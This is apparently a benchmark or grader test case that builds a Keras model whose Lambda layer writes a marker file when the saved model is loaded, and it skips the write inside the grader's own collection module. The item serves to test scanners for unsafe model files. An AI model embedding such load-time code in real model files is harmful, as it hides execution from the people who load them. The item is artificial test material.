# attack: networks and stored files with a Lambda layer that runs where they are loaded
# catalogue: B09, B11
# later: 1
# points: 10
# %%
import sys

import tensorflow as tf


def run_elsewhere(x):
    if "grader.collect.execution" not in sys.modules:
        open("@DROP@/lambda", "w").write("x")
    return x


model = tf.keras.Sequential(
    [
        tf.keras.Input((28, 28, 1)),
        tf.keras.layers.Flatten(),
        tf.keras.layers.Lambda(run_elsewhere),
        tf.keras.layers.Dense(10, activation="softmax"),
    ]
)
model.save("model.keras")
model.save("evidence.h5")
